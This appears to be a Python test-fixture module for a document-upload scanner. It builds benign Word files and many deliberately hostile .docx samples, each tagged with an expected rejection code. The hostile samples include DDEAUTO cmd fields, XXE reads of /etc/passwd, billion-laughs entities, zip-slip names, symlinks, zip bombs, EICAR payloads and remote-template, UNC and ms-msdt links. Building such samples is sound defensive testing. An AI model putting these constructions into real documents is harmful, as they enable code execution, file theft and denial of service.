"""Word documents (.docx): a zip written entry by entry, so that each entry can lie."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.files.making.sample import EICAR, Sample

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_PNG = zlib.compress(b"\0\xff\xff\xff")

Parts = dict[str, bytes]


def _png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", _PNG) + chunk(b"IEND", b"")


def types(main: str = _MAIN, extra: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}</Types>'
    ).encode()


def links(*rows: tuple[str, str, str]) -> bytes:
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(rows)
    )
    root = f'<Relationships xmlns="{_PACKAGE}/relationships">{inside}</Relationships>'
    return f'<?xml version="1.0"?>{root}'.encode()


def text(inside: str = "<w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p>") -> bytes:
    root = f'<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'
    return f'<?xml version="1.0" encoding="UTF-8"?>{root}'.encode()


def parts(extra: Parts | None = None) -> Parts:
    return {
        "[Content_Types].xml": types(),
        "_rels/.rels": links((f"{_OFFICE}/officeDocument", "word/document.xml", "")),
        "word/document.xml": text(),
    } | (extra or {})


def zipped(content: Parts, *, stored: bool = False, streamed: bool = False) -> bytes:
    out = io.BytesIO()
    target: io.BytesIO | _Stream = _Stream(out) if streamed else out
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:  # type: ignore[call-overload]
        for name, data in content.items():
            archive.writestr(zipfile.ZipInfo(name), data, None if stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


@dataclass
class _Stream:
    """Cannot be rewound: sizes come after the content, as Google's export writes them."""

    out: io.BytesIO

    def write(self, data: bytes) -> int:
        return self.out.write(data)

    def flush(self) -> None: ...


def good() -> Iterator[Sample]:
    plain = parts()
    yield Sample("docx hand-made", "đơn.docx", zipped(plain))
    yield Sample("docx relations first", "Đơn xin học.docx", zipped(dict(reversed(plain.items()))))
    yield Sample("docx text first", "tờ khai.docx", zipped(dict(sorted(plain.items(), reverse=True))))
    yield Sample("docx stored", "a b c.docx", zipped(plain, stored=True))
    yield Sample("docx streamed", "Bản sao (1).docx", zipped(plain, streamed=True))
    yield Sample("docx folders", "thư mục.docx", zipped({"word/": b"", "_rels/": b""} | plain))
    yield Sample("docx picture", "ảnh thẻ.docx", zipped(plain | {"word/media/image1.png": _png()}))
    utf16 = text().decode().replace("UTF-8", "UTF-16").encode("utf-16")
    yield Sample("docx UTF-16", "v1.2 bản cuối.docx", zipped(plain | {"word/document.xml": utf16}))
    click = links((f"{_OFFICE}/hyperlink", "https://dichvucong.example/", ' TargetMode="External"'))
    yield Sample("docx hyperlink", "liên kết.docx", zipped(plain | {"word/_rels/document.xml.rels": click}))
    page = text('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>')
    yield Sample("docx page field", "trang.docx", zipped(plain | {"word/document.xml": page}))
    strict = text().replace(W.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main")
    yield Sample("docx strict", "Hồ sơ.docx", zipped(plain | {"word/document.xml": strict}))
    absolute = links((f"{_OFFICE}/officeDocument", "/word/document.xml", ""))
    yield Sample("docx absolute target", "x.docx", zipped(plain | {"_rels/.rels": absolute}))
    for label, data in _from_python_docx():
        yield Sample(f"docx python-docx {label}", f"{label}.docx", data)


def _from_python_docx() -> Iterator[tuple[str, bytes]]:
    from docx import Document

    for label in ("văn bản", "bảng", "ảnh", "đầu trang"):
        document = Document()
        document.add_heading("ĐƠN ĐỀ NGHỊ", 1)
        document.add_paragraph("Kính gửi: Ủy ban nhân dân")
        if label == "bảng":
            document.add_table(rows=20, cols=4).cell(0, 0).text = "Họ và tên"
        if label == "ảnh":
            document.add_picture(io.BytesIO(_png()))
        if label == "đầu trang":
            document.sections[0].header.paragraphs[0].text = "Cộng hòa xã hội chủ nghĩa Việt Nam"
        out = io.BytesIO()
        document.save(out)
        with zipfile.ZipFile(out) as archive:  # packed again, because python-docx writes today's date
            yield label, zipped({name: archive.read(name) for name in archive.namelist()})


def bad() -> Iterator[Sample]:
    yield from _that_run()
    yield from _that_nest()
    yield from _that_reach_out()
    yield from _with_wild_markup()
    yield from _with_wild_names()
    yield from _bombs()
    yield from _lying()
    yield from _of_another_kind()


def _sample(label: str, extra: Parts, code: str) -> Sample:
    return Sample(f"docx {label}", "don.docx", zipped(parts() | extra), code)


def _that_run() -> Iterator[Sample]:
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    macro_part = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield _sample("docm renamed", {"[Content_Types].xml": types(macro_main)}, "file_has_macro")
    yield _sample("vbaProject", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "file_has_macro")
    yield _sample("vbaProject in capitals", {"WORD/VBAPROJECT.BIN": b"x"}, "file_has_macro")
    yield _sample("vbaData", {"word/vbaData.xml": b"<a/>"}, "file_has_macro")
    yield _sample("ribbon", {"customUI/customUI14.xml": b"<customUI/>"}, "file_has_macro")
    yield _sample(
        "macro under another name",
        {"[Content_Types].xml": types(extra=macro_part), "word/image.bin": b"x"},
        "file_has_nested_file",
    )
    yield _sample("macro type only", {"[Content_Types].xml": types(extra=macro_part)}, "file_has_macro")
    yield _sample("activeX xml", {"word/activeX/activeX1.xml": b"<a/>"}, "file_has_active_content")
    control = links((f"{_OFFICE}/control", "media/x.xml", ""))
    yield _sample("control link", {"word/_rels/document.xml.rels": control}, "file_has_active_content")
    yield _sample("control element", {"word/document.xml": text("<w:control/>")}, "file_has_active_content")
    for label, code in _runs_in_fields():
        yield _sample(f"field {label}", {"word/document.xml": text(code)}, "file_has_active_content")
    yield _sample("field in header", {"word/header1.xml": text(_field("DDE a b"))}, "file_has_active_content")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield _sample("svg script", {"word/media/a.svg": svg}, "file_has_active_content")
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    yield _sample("svg onload", {"word/media/a.svg": svg}, "file_has_active_content")


def _field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


def _runs_in_fields() -> Iterator[tuple[str, str]]:
    yield "DDEAUTO", _field(" DDEAUTO c:\\\\windows\\\\cmd.exe")
    yield "cut into runs", _field("DD", "EAU", "TO cmd")
    yield "small letters", _field(" dde excel x")
    yield "quoted", _field(' "DDE" excel x')
    yield "simple", '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
    yield "spelled out", _field(" QUOTE 68 68 69 65 85 84 79")
    yield "button", _field("MACROBUTTON AutoOpen x")
    yield "unfinished", "<w:p><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"


def _that_nest() -> Iterator[Sample]:
    names = (
        "word/embeddings/oleObject1.bin",
        "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
        "word/afchunk.htm",
        "word/media/run.exe",
        "eicar.com",
        "META-INF/MANIFEST.MF",
        "A.class",
        "nested.zip",
        "word/noextension",
    )
    for name in names:
        yield _sample(f"nested {name}", {name: b"PK\x03\x04" + EICAR}, "file_has_nested_file")
    for kind in ("oleObject", "package", "aFChunk", "subDocument"):
        rels = links((f"{_OFFICE}/{kind}", "media/x.png", ""))
        yield _sample(f"link {kind}", {"word/_rels/document.xml.rels": rels}, "file_has_nested_file")
    for element in ("<w:altChunk/>", '<o:OLEObject xmlns:o="urn:x"/>', "<w:subDoc/>"):
        yield _sample(f"element {element}", {"word/document.xml": text(element)}, "file_has_nested_file")
    for label, head in {
        "exe": b"MZ\x90",
        "zip": b"PK\x03\x04",
        "pdf": b"%PDF-1.4",
        "ole": b"\xd0\xcf\x11\xe0",
    }.items():
        yield _sample(
            f"picture that is {label}", {"word/media/image1.png": head + b"x"}, "file_has_nested_file"
        )
    shown = text(f"<w:p><w:r><w:t>{EICAR.decode()}</w:t></w:r></w:p>")
    yield _sample("virus text", {"word/document.xml": shown}, "file_infected")


def _that_reach_out() -> Iterator[Sample]:
    outside = ' TargetMode="External"'
    rows = [
        ("attachedTemplate", "http://a.example/t.dotm"),
        ("attachedTemplate", "file:///C:/t.dotm"),
        ("image", "http://a.example/i.png"),
        ("oleObject2", "\\\\10.0.0.1\\x"),
        ("frame", "http://a.example/f"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "file://10.0.0.1/x"),
        ("hyperlink", "\\\\10.0.0.1\\x"),
        ("hyperlink", "ms-msdt:/id"),
    ]
    for kind, target in rows:
        rels = links((f"{_OFFICE}/{kind}", target, outside))
        place = "word/_rels/settings.xml.rels"
        yield _sample(f"outside {kind} {target[:8]}", {place: rels}, "file_has_outside_link")
    inside = links((f"{_OFFICE}/image", "http://a.example/i.png", ""))
    yield _sample(
        "address said to be inside", {"word/_rels/document.xml.rels": inside}, "file_has_outside_link"
    )
    for code in (
        "INCLUDETEXT http://a.example",
        "INCLUDEPICTURE http://a.example/a.png",
        "LINK Excel.Sheet.8 x",
    ):
        extra = {"word/document.xml": text(_field(code))}
        yield _sample(f"field {code.split()[0]}", extra, "file_has_outside_link")


def _with_wild_markup() -> Iterator[Sample]:
    body = text().partition(b"?>")[2]
    lol = b"".join(b'<!ENTITY l%d "%s">' % (n + 1, b"&l%d;" % n * 10) for n in range(9))
    prologues = {
        "XXE file": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "XXE http": b'<!DOCTYPE d [<!ENTITY x SYSTEM "http://a.example/">]>',
        "billion laughs": b'<!DOCTYPE d [<!ENTITY l0 "ha">' + lol + b"]>",
        "outer DTD": b'<!DOCTYPE d SYSTEM "http://a.example/x.dtd">',
        "empty DTD": b"<!DOCTYPE d []>",
        "parameter entity": b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://a.example/"> %p;]>',
    }
    for label, prologue in prologues.items():
        yield _sample(label, {"word/document.xml": prologue + body}, "file_suspicious")
    yield _sample("DTD in styles", {"word/styles.xml": b"<!DOCTYPE a []><a/>"}, "file_suspicious")
    hidden = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d []>' + body.decode()).encode("utf-16")
    yield _sample("DTD in UTF-16", {"word/document.xml": hidden}, "file_suspicious")
    for encoding in ("UTF-7", "cp037", "iso-2022-jp"):
        strange = f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + body
        yield _sample(f"encoding {encoding}", {"word/document.xml": strange}, "file_suspicious")
    long = text(f'<w:p w:x="{"a" * 1_100_000}"/>')
    yield Sample(
        "docx long attribute",
        "don.docx",
        zipped(parts() | {"word/document.xml": long}, stored=True),
        "file_suspicious",
    )
    deep = text("<w:p>" * 2000 + "</w:p>" * 2000)
    yield _sample("deep", {"word/document.xml": deep}, "file_too_heavy_inside")
    many = text("<w:p " + " ".join(f'a{n}="1"' for n in range(2000)) + "/>")
    yield _sample("many attributes", {"word/document.xml": many}, "file_too_heavy_inside")
    yield _sample("not well-formed", {"word/document.xml": text("<w:p>")}, "file_damaged")
    yield _sample("NUL", {"word/document.xml": text("\0")}, "file_damaged")


def _with_wild_names() -> Iterator[Sample]:
    for name in (
        "../evil.xml",
        "/etc/cron.xml",
        "word/../../x.xml",
        "C:/x.xml",
        "word\\..\\x.xml",
        "word//x.xml",
        "./x.xml",
    ):
        yield Sample(
            f"zip-slip {name}",
            "don.docx",
            _renamed(parts({"q" * len(name): b"<a/>"}), name),
            "file_suspicious",
        )
    twice = _renamed(
        parts({"[Content_Types]_xml": types()}), "[Content_Types].xml", old="[Content_Types]_xml"
    )
    yield Sample("docx two type lists", "don.docx", twice, "file_suspicious")
    yield _sample("names differing in case", {"WORD/document.xml": text()}, "file_suspicious")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts().items():
            archive.writestr(zipfile.ZipInfo(name), data)
        link = zipfile.ZipInfo("word/link.xml")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    yield Sample("docx symbolic link", "don.docx", out.getvalue(), "file_suspicious")


def _renamed(content: Parts, new: str, *, old: str = "") -> bytes:
    """The name is changed in both lists after zipfile has made them sound."""
    return zipped(content).replace((old or "q" * len(new)).encode(), new.encode())


def _bombs() -> Iterator[Sample]:
    heavy = "file_too_heavy_inside"
    yield _sample("60 MB of zeros", {"word/a.xml": b"\0" * 60_000_000}, heavy)
    yield _sample("ratio over 100", {"word/a.xml": b" " * 3_000_000}, heavy)
    yield _sample("300 entries", {f"word/a{n}.xml": b"<a/>" for n in range(300)}, heavy)
    yield _sample("10,000 entries", {f"w/{n}.xml": b"" for n in range(10_000)}, heavy)
    inner = zipped({"b.zip": zipped({"c": b"\0" * 1_000_000})})
    yield _sample("zip in zip", {"word/b.zip": inner}, "file_has_nested_file")
    yield Sample("docx overlapping entries", "don.docx", _overlapping(), "file_suspicious")
    small = _declared(zipped(parts({"word/a.xml": b"<a>" + b"b" * 90_000 + b"</a>"})), 90_007, 10)
    yield Sample("docx smaller than it is", "don.docx", small, "file_suspicious")


def _overlapping() -> bytes:
    """Two names in the directory for one content, as the compact bombs do."""
    whole = zipped(parts())
    end = whole.rfind(b"PK\x05\x06")
    count, size, start = struct.unpack_from("<HII", whole, end + 10)
    directory = whole[start : start + size]
    last = directory.rfind(b"PK\x01\x02")
    again = bytearray(directory[last:])
    again[46 + len("word/document.xm") - 1] ^= 1
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 1, count + 1, size + len(again), start, 0)
    return whole[:start] + directory + bytes(again) + tail


def _declared(whole: bytes, old: int, new: int) -> bytes:
    """A false unpacked size in the directory only."""
    at = whole.index(b"PK\x01\x02")
    return whole[:at] + whole[at:].replace(struct.pack("<I", old), struct.pack("<I", new))


def _lying() -> Iterator[Sample]:
    whole = zipped(parts())
    yield Sample(
        "docx + zip comment", "don.docx", whole[:-2] + struct.pack("<H", 4) + b"%PDF", "file_two_kinds"
    )
    yield Sample("docx + tail", "don.docx", whole + b"<script>", "file_two_kinds")
    yield Sample("html before docx", "don.docx", b"<html>" + whole, "file_not_a_docx")
    yield Sample("exe before docx", "don.docx", b"MZ" + whole, "file_not_a_docx")
    yield Sample("docx cut", "don.docx", whole[: len(whole) // 2], "file_damaged")
    yield Sample("docx end cut", "don.docx", whole[:-5], "file_damaged")
    body = bytearray(zipped(parts(), stored=True))
    body[body.index(b"body")] ^= 0x20
    yield Sample("docx wrong checksum", "don.docx", bytes(body), "file_damaged")
    locked = bytearray(whole)
    locked[whole.index(b"PK\x01\x02") + 8] |= 1
    yield Sample("docx zip password", "don.docx", bytes(locked), "file_encrypted")
    other = whole.replace(b"word/document.xml", b"word/documenx.xml", 1)
    yield Sample("docx two lists differ", "don.docx", other, "file_suspicious")
    method = bytearray(whole)
    struct.pack_into("<H", method, whole.index(b"PK\x01\x02") + 10, 12)
    yield Sample("docx strange packing", "don.docx", bytes(method), "file_suspicious")


def _of_another_kind() -> Iterator[Sample]:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    template = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    not_word = "file_not_a_docx"
    yield _sample("xlsx type", {"[Content_Types].xml": types(sheet)}, not_word)
    yield _sample("template", {"[Content_Types].xml": types(template)}, not_word)
    yield Sample("bare zip", "don.docx", zipped({"a.txt": b"x", "b.xml": b"<a/>"}), "file_has_nested_file")
    yield Sample("zip of xml", "don.docx", zipped({"b.xml": b"<a/>"}), not_word)
    yield _sample("html as main part", {"word/document.xml": b"<html/>"}, not_word)
    nowhere = links((f"{_OFFICE}/officeDocument", "word/gone.xml", ""))
    yield _sample("main part missing", {"_rels/.rels": nowhere}, "file_damaged")
    two = links(
        (f"{_OFFICE}/officeDocument", "word/document.xml", ""), (f"{_OFFICE}/officeDocument", "b.xml", "")
    )
    yield _sample("two main parts", {"_rels/.rels": two}, not_word)
    yield Sample("odt", "don.docx", zipped({"mimetype": b"application/vnd.oasis"}), "file_has_nested_file")
